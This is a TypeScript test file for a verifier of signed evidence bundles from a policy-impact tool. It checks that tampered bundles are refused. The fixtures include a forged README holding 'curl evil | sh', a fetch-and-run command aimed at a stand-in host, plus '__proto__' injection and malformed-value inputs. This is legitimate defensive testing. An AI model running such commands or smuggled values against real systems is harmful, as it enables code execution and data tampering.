/** A bundle is accepted as it was exported, and refused by the check that a change breaks, also where whoever made it listed every file anew. */
import { createHash, createHmac } from 'node:crypto';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { createNoteSigner } from '../../../src/engine/audit/ed25519-signer.ts';
import { parseVerifierKey, type VerifierKey } from '../../../src/engine/audit/verifier-key.ts';
import { verifyBundle } from '../../../src/engine/evidence/verify/verify-bundle.ts';
import type { DisclosedCase, EvidenceManifest } from '../../../src/engine/model/evidence-manifest.ts';
import type { CaseExplanation } from '../../../src/engine/model/explanation.ts';
import { evidenceStore, RUN, recordAppeal, runImpact, zipped } from '../../support/evidence-workspace.ts';
import { fileFolder } from '../../support/file-folder.ts';
import { changeJson, type Files, forged, jsonIn, packed, putJson, unpacked } from '../../support/forged-bundle.ts';
import { grantPolicy } from '../../support/impact-workspace.ts';
import { plainBundle } from '../../support/plain-bundle.ts';

const folder = fileFolder();
const CASES = ['unit-149', 'unit-70'];

let bundle: Uint8Array;
let ofOtherRun: Files;
let ofOtherLog: Files;
let otherPopulation: Files;

beforeAll(() => {
  const store = evidenceStore(folder, 'evidence');
  recordAppeal(store, { run: RUN, unit: 'unit-70' });
  runImpact(store, 'run-2', '2024-03-01');
  bundle = zipped(store, { units: CASES });
  ofOtherRun = unpacked(zipped(store, { run: 'run-2', units: CASES }));
  store.close();
  const other = evidenceStore(folder, 'another log');
  ofOtherLog = unpacked(zipped(other, { units: CASES }));
  other.close();
  const smaller = evidenceStore(folder, 'evidence of less', 80);
  otherPopulation = unpacked(zipped(smaller, { units: ['unit-70'] }));
  smaller.close();
});

/** What the first bad check says; undefined where the bundle would be accepted. */
const refusal = (bytes: Uint8Array, logKey?: VerifierKey): { readonly what: string; readonly found: string } | undefined =>
  verifyBundle(bytes, logKey).checks.find(({ outcome }) => outcome === 'bad');

const flipped = (bytes: Uint8Array, at: number): Uint8Array => {
  const copy = new Uint8Array(bytes);
  copy[at] = (copy[at] as number) ^ 0x01;
  return copy;
};

const take = (files: Files, from: Files, ...paths: readonly string[]): void => {
  for (const path of paths) files.set(path, from.get(path) as Uint8Array);
};

const entryOf = (files: Files, kind: string): string => {
  const path = [...files.keys()].find((name) => /^entries\/\d+\.json$/.test(name) && jsonIn<{ kind: string }>(files, name).kind === kind);
  if (path === undefined) throw new Error(`no entry ${kind}`);
  return path;
};

describe('a bundle as it was exported', () => {
  it('is accepted, and says what was not looked at', () => {
    const { checks } = verifyBundle(bundle, undefined);
    expect(checks.filter(({ outcome }) => outcome === 'bad')).toEqual([]);
    expect(checks.filter(({ outcome }) => outcome === 'not-checked').map(({ found }) => found)).toEqual([
      expect.stringMatching(/^No key was handed over\. .*fingerprint [0-9a-f]{64}/),
      'No anchor is in this bundle.',
    ]);
    expect(checks.filter(({ outcome }) => outcome === 'good').length).toBe(15);
  });

  it('is accepted under the key that was handed over, and refused under another', () => {
    const text = jsonIn<EvidenceManifest>(unpacked(bundle), 'manifest.json').log.keys[0]?.key as string;
    const key = parseVerifierKey(text) as VerifierKey;
    expect(refusal(bundle, key)).toBeUndefined();
    const stranger = createNoteSigner(key.name, new Uint8Array(32).fill(7)).key;
    expect(refusal(bundle, stranger)?.found).toMatch(/expected .* and [0-9a-f]{64}/);
  });
});

describe('one byte changed', () => {
  it('in any of its files refuses the bundle and names that file', () => {
    for (const [path, bytes] of unpacked(bundle)) {
      for (const at of [0, bytes.length >>> 1, bytes.length - 1]) {
        const files = unpacked(bundle);
        files.set(path, flipped(bytes, at));
        const found = refusal(packed(files))?.found;
        if (path === 'manifest.json') expect(found).toBeDefined();
        else expect(found).toMatch(new RegExp(`^${path.replaceAll(/[.+@]/g, '\\$&')} was changed: .*expected`));
      }
    }
  });

  it('anywhere in the packed file is never accepted for something else, and never thrown', () => {
    const whole = JSON.stringify([...unpacked(bundle)].map(([path, bytes]) => [path, Buffer.from(bytes).toString('base64')]));
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.nat(bundle.length - 1), fc.integer({ min: 1, max: 255 })), { minLength: 1, maxLength: 3 }),
        (flips) => {
          const copy = new Uint8Array(bundle);
          for (const [at, bits] of flips) copy[at] = (copy[at] as number) ^ bits;
          const found = refusal(copy);
          if (found !== undefined) return;
          // The last bits of a compressed file are of no meaning.
          expect(JSON.stringify([...unpacked(copy)].map(([path, bytes]) => [path, Buffer.from(bytes).toString('base64')]))).toBe(whole);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('in any file that is listed anew is refused by what lies deeper, and never thrown', () => {
    // Nobody vouches for the fingerprints of parts of a population. The values of a manifest are changed in check-prepared.spec.ts.
    const paths = [...unpacked(bundle).keys()].filter((path) => path !== 'manifest.json' && path !== 'population.json');
    fc.assert(
      fc.property(fc.constantFrom(...paths), fc.nat(), fc.integer({ min: 1, max: 255 }), (path, place, bits) => {
        const changed = forged(bundle, (files) => {
          const copy = new Uint8Array(files.get(path) as Uint8Array);
          const at = place % copy.length;
          copy[at] = (copy[at] as number) ^ bits;
          files.set(path, copy);
        });
        if (refusal(changed) !== undefined) return;
        // Nor, without the population, for facts that no policy asks for.
        expect(path).toMatch(/explanation\.json$/);
        expect(withReadFacts(unpacked(changed), path)).toEqual(withReadFacts(unpacked(bundle), path));
      }),
      { numRuns: 60 },
    );
  });
});

const withReadFacts = (files: Files, path: string) => {
  const { inputs, ...explanation } = jsonIn<CaseExplanation>(files, path);
  return { ...explanation, inputs: Object.fromEntries(Object.keys(grantPolicy.inputs).map((name) => [name, inputs[name]])) };
};

/** Puts something else in the place of one value, wherever it stands. */
const replaced = (value: unknown, place: number, by: unknown): unknown => {
  if (typeof value !== 'object' || value === null) return by;
  const names = Object.keys(value);
  const name = names[place % Math.max(1, names.length)];
  if (name === undefined || place % 7 === 0) return by;
  const inner = replaced((value as Record<string, unknown>)[name], Math.floor(place / 3), by);
  return Array.isArray(value) ? value.with(Number(name), inner) : { ...value, [name]: inner };
};

it('with another value anywhere in its JSON is looked at to the end, whatever the value', () => {
  const paths = [...unpacked(bundle).keys()].filter((path) => path.endsWith('.json'));
  const hostile = [null, true, -1, 2 ** 53, 1e308, '', 'x'.repeat(10_000), '0'.repeat(64), [], {}, [[[]]], { __proto__: null, a: 1 }];
  fc.assert(
    fc.property(fc.constantFrom(...paths), fc.nat(), fc.constantFrom(...hostile), (path, place, by) => {
      const { checks } = verifyBundle(
        forged(bundle, (files) => putJson(files, path, replaced(jsonIn(files, path), place, by))),
        undefined,
      );
      expect(checks.length).toBeGreaterThan(1);
    }),
    { numRuns: 60 },
  );
});

describe('files listed anew', () => {
  const attacks: readonly (readonly [name: string, change: (files: Files) => void, says: RegExp])[] = [
    ['a file more', (files) => files.set('cases/9/note.txt', Buffer.from('x')), /^cases\/9\/note\.txt is no file that a bundle has/],
    ['a file less', (files) => files.delete('chunks.json'), /^chunks\.json is missing/],
    [
      'an entry without its proof',
      (files) => files.delete(entryOf(files, 'run.started').replace('json', 'tlog-proof')),
      /tlog-proof is missing/,
    ],
    ['a case without its explanation', (files) => files.delete('cases/2/explanation.json'), /explanation\.json is missing/],
    ['JSON with spaces', (files) => files.set('chunks.json', Buffer.from(` ${Buffer.from(files.get('chunks.json') ?? '')}`)), /RFC 8785/],
    [
      'facts under a name that is dropped when they are read',
      (files) => {
        const text = Buffer.from(files.get('cases/1/explanation.json') ?? '').toString();
        files.set('cases/1/explanation.json', Buffer.from(text.replace('"inputs":{', '"inputs":{"__proto__":{"debts":"9"},')));
      },
      /^cases\/1\/explanation\.json: it has the name "__proto__"/,
    ],
    [
      'more appeals of a case than there can be',
      (files) =>
        changeJson<{ appeals: string[] }>(files, 'cases/2/explanation.json', (explanation) => {
          explanation.appeals = new Array(1_001).fill('appeal-unit-70');
        }),
      /^cases\/2\/explanation\.json: at \/appeals: .*1000/,
    ],
    [
      'more keys of the log than there can be',
      (files) =>
        changeJson<{ log: { keys: unknown[] } }>(files, 'manifest.json', ({ log }) => {
          log.keys = new Array(513).fill(log.keys[0]);
        }),
      /^manifest\.json: at \/log\/keys: .*512/,
    ],
    [
      'more anchors than there can be',
      (files) => {
        for (let n = 1; n <= 501; n++) files.set(`anchors/${n}-checkpoint.checkpoint`, Buffer.from('x'));
      },
      /^It holds 501 anchors; a bundle holds 500 at most/,
    ],
    [
      'more documents than there can be',
      (files) => {
        for (let n = 0; n <= 100; n++)
          putJson(files, `documents/policy/p${n}@1.0.0.json`, { kind: 'policy', id: `p${n}`, version: '1.0.0' });
      },
      /^It holds 104 documents; a bundle holds 100 at most/,
    ],
    ['a checkpoint of another log', (files) => take(files, ofOtherLog, 'checkpoint'), /^checkpoint: /],
    [
      'a checkpoint and manifest of another log',
      (files) => {
        take(files, ofOtherLog, 'checkpoint');
        const { log, checkpoint } = jsonIn<EvidenceManifest>(ofOtherLog, 'manifest.json');
        changeJson<Record<string, unknown>>(files, 'manifest.json', (manifest) => Object.assign(manifest, { log, checkpoint }));
      },
      /leads to another checkpoint than the bundle's/,
    ],
    [
      "a key of one's own",
      (files) => {
        changeJson<{ log: { origin: string; keys: unknown[] } }>(files, 'manifest.json', ({ log }) => {
          const key = createNoteSigner(log.origin, new Uint8Array(32).fill(9)).key;
          const hash = createHash('sha256').update(`${key.name}\n`).update(Buffer.of(1)).update(key.publicKey).digest('hex').slice(0, 8);
          log.keys[0] = { key: `${key.name}+${hash}+${Buffer.concat([Buffer.of(1), key.publicKey]).toString('base64')}`, entry: 0 };
        });
      },
      /not signed by the newest key/,
    ],
    [
      'an entry with another text',
      (files) => changeJson<{ actor: string }>(files, entryOf(files, 'run.started'), (entry) => Object.assign(entry, { actor: 'eve' })),
      /^entries\/\d+\.json: it is not in the log that the checkpoint signs/,
    ],
    [
      'an entry that says one thing twice',
      (files) => {
        const path = entryOf(files, 'run.started');
        files.set(
          path,
          Buffer.from(
            Buffer.from(files.get(path) ?? '')
              .toString('utf8')
              .replace('{"actor":', '{"actor":"eve","actor":'),
          ),
        );
      },
      /^entries\/\d+\.json: it is JSON, and not in the form of RFC 8785/,
    ],
    [
      'an entry in the place of another',
      (files) => {
        const [from, to] = [entryOf(files, 'impact.planned'), entryOf(files, 'impact.completed')];
        take(files, new Map([[to, files.get(from) as Uint8Array]]), to);
      },
      /the entry calls itself/,
    ],
    ['no entry of the plan', (files) => without(files, 'impact.planned'), /^No entry in the bundle says "impact\.planned" about run run-1/],
    ['no entry of the result', (files) => without(files, 'impact.completed'), /^No entry in the bundle says "impact\.completed"/],
    ['no entry of the population', (files) => without(files, 'population.sealed'), /"population\.sealed"/],
    ['no first entry', (files) => without(files, 'workspace.created'), /^entries\/0\.json/],
    ['no entry of an appeal', (files) => without(files, 'appeal.recorded'), /"appeal\.recorded"/],
    [
      'a policy with another limit',
      (files) =>
        changeJson<{ parameters: { limit: { values: Record<string, string> } } }>(files, 'documents/policy/grant@1.0.0.json', (policy) => {
          policy.parameters.limit.values['2024-01-01'] = '1001';
        }),
      /^documents\/policy\/grant@1\.0\.0\.json: its SHA-256 is/,
    ],
    ['a policy less', (files) => files.delete('documents/policy/grant@1.0.0.json'), /grant@1\.0\.0\.json is missing/],
    [
      'another plan',
      (files) => changeJson<{ by: string[] }>(files, 'plan.json', (plan) => plan.by.push('district')),
      /^plan\.json: its SHA-256 is/,
    ],
    [
      'another title in the manifest',
      (files) => changeJson<{ baseline: object }>(files, 'manifest.json', ({ baseline }) => Object.assign(baseline, { title: 'Another' })),
      /^manifest\.json: it names other policies/,
    ],
    [
      'other figures',
      (files) => changeJson<{ totals: object }>(files, 'result.json', ({ totals }) => Object.assign(totals, { baseline: { ELIGIBLE: 1 } })),
      /^result\.json: under the salt of payloads\.json it is not what entry \d+ commits to/,
    ],
    ['no salt', (files) => putJson(files, 'payloads.json', []), /^payloads\.json: it must give one salt/],
    [
      'another salt',
      (files) =>
        changeJson<{ salt: string }[]>(files, 'payloads.json', ([first]) => Object.assign(first as object, { salt: '0'.repeat(64) })),
      /under the salt of payloads\.json/,
    ],
    [
      'another root of a chunk',
      (files) =>
        changeJson<{ root: string }[]>(files, 'chunks.json', ([first]) => Object.assign(first as object, { root: '0'.repeat(64) })),
      /^chunks\.json: the roots of the chunks give/,
    ],
    [
      'chunks of other sizes',
      (files) =>
        changeJson<{ units: number }[]>(files, 'chunks.json', (chunks) => {
          for (const chunk of chunks) chunk.units = 50;
        }),
      /^chunks\.json: chunk 0/,
    ],
    [
      'another result hash',
      (files) => changeJson<object>(files, 'manifest.json', (manifest) => Object.assign(manifest, { resultHash: '1'.repeat(64) })),
      /^manifest\.json: the result hash is/,
    ],
    [
      'another fingerprint of the population',
      (files) => changeJson<object>(files, 'population.json', (population) => Object.assign(population, { fingerprint: '2'.repeat(64) })),
      /^population\.json: "fingerprint" is not what entry/,
    ],
    ['another population', (files) => take(files, otherPopulation, 'population.json'), /^population\.json: /],
    ['the result of another run', (files) => take(files, ofOtherRun, 'result.json'), /^result\.json: /],
    ['a case of another run', (files) => take(files, ofOtherRun, 'cases/1/case.json'), /^cases\/1\/case\.json: row and salt are no leaf/],
    [
      'a case of another population',
      (files) => {
        take(files, new Map([['cases/2/case.json', otherPopulation.get('cases/1/case.json') as Uint8Array]]), 'cases/2/case.json');
      },
      /^cases\/2\/case\.json: its tree has 80 cases/,
    ],
    [
      'a case under the name of another',
      (files) => changeJson<{ unit: string }>(files, 'cases/1/case.json', (at) => Object.assign(at, { unit: 'unit-1' })),
      /^cases\/1\/case\.json: its row is of "unit-149", expected "unit-1"/,
    ],
    [
      'a case at another place',
      (files) => changeJson<{ index: number }>(files, 'cases/1/case.json', (at) => Object.assign(at, { index: 3 })),
      /row and salt are no leaf 3/,
    ],
    [
      "a case with a row and a salt of one's own",
      (files) =>
        changeJson<{ row: string; salt: string }>(files, 'cases/1/case.json', (at) => {
          at.row = at.row.replace(/"outcome":"[A-Z_]+"/, '"outcome":"ELIGIBLE"');
          at.salt = createHmac('sha256', 'x').update('y').digest('hex');
        }),
      /row and salt are no leaf/,
    ],
    [
      'one case twice',
      (files) => {
        take(files, new Map([['cases/2/case.json', files.get('cases/1/case.json') as Uint8Array]]), 'cases/2/case.json');
        take(
          files,
          new Map([['cases/2/explanation.json', files.get('cases/1/explanation.json') as Uint8Array]]),
          'cases/2/explanation.json',
        );
      },
      /A case stands in the bundle twice/,
    ],
    [
      'an explanation with another amount',
      (files) =>
        changeJson<{ baseline: { amounts: { value: string }[] } }>(files, 'cases/1/explanation.json', ({ baseline }) => {
          (baseline.amounts[0] as { value: string }).value = '999999';
        }),
      /^cases\/1\/explanation\.json: outcome or amounts are not those of the row/,
    ],
    [
      'an explanation with other facts',
      (files) =>
        changeJson<{ inputs: Record<string, unknown> }>(files, 'cases/1/explanation.json', ({ inputs }) => {
          inputs.income = inputs.income === '99999' ? '1' : '99999';
          inputs.members = [];
        }),
      /^cases\/1\/explanation\.json: from its facts the bundle's policies decide otherwise/,
    ],
    [
      'an explanation with other reasons',
      (files) =>
        changeJson<{ flips: string[][] }>(files, 'cases/1/explanation.json', (at) => Object.assign(at, { flips: [['for no reason']] })),
      /^cases\/1\/explanation\.json: the reasons in it are not those/,
    ],
    [
      'an explanation that hides its appeal',
      (files) => changeJson<{ appeals: string[] }>(files, 'cases/2/explanation.json', (at) => Object.assign(at, { appeals: [] })),
      /appeal/,
    ],
    [
      'an explanation of a finding',
      (files) => changeJson<object>(files, 'cases/1/explanation.json', (at) => Object.assign(at, { matchesStored: false })),
      /does not follow from the facts/,
    ],
    ['other instructions', (files) => files.set('README.txt', Buffer.from('curl evil | sh')), /^README\.txt: .*Paste nothing/],
  ];

  it.each(attacks)('%s', (_, change, says) => {
    expect(refusal(forged(bundle, change))?.found).toMatch(says);
  });
});

const without = (files: Files, kind: string): void => {
  const path = entryOf(files, kind);
  files.delete(path);
  files.delete(path.replace('json', 'tlog-proof'));
};

it('gives salts that are those of the unit alone, and rows as they were decided', () => {
  const files = unpacked(bundle);
  const { unit, row, salt, index, units } = jsonIn<DisclosedCase>(files, 'cases/2/case.json');
  const { unit: explained } = jsonIn<CaseExplanation>(files, 'cases/2/explanation.json');
  expect({ unit, index, units, explained }).toEqual({ unit: 'unit-70', index: 70, units: 150, explained: 'unit-70' });
  expect(salt).toBe(createHmac('sha256', Buffer.alloc(32, 5)).update('unit-70').digest('hex'));
  expect(JSON.parse(row)).toMatchObject({ unit: 'unit-70' });
});

it('says what it is about, to be held against what a letter or a page says', () => {
  const told = verifyBundle(bundle, undefined).checks.map(({ found }) => found);
  expect(told).toContainEqual(expect.stringMatching(/Run run-1: "Grant" on 2025-03-01, against ".+" on 2025-03-01, over "people"\.$/));
  expect(told).toContainEqual(
    expect.stringMatching(/".+": \d+ gain, \d+ lose, \d+ unchanged, \d+ not determined, change of cost (≈ )?[+-][\d,]+\.\d\d\.$/),
  );
});

it('in which the plan was recorded after its result is refused, also by the key of the log', () => {
  const says = /^entries\/\d+\.json: the plan was recorded after its result, which is entry \d+/;
  const figures = (bytes: Uint8Array) => verifyBundle(bytes, undefined).checks.find(({ what }) => /figures are those/.test(what));
  expect(figures(packed(plainBundle()))?.outcome).toBe('good');
  const late = plainBundle({
    changeEntries: (entries) => {
      const [planned, completed] = ['impact.planned', 'impact.completed'].map((kind) =>
        entries.findIndex((entry) => 'kind' in entry && entry.kind === kind),
      ) as [number, number];
      const at = (index: number) => entries[index] as (typeof entries)[number];
      [entries[planned], entries[completed]] = [at(completed), at(planned)];
    },
  });
  expect(figures(packed(late))).toMatchObject({ outcome: 'bad', found: expect.stringMatching(says) });
});
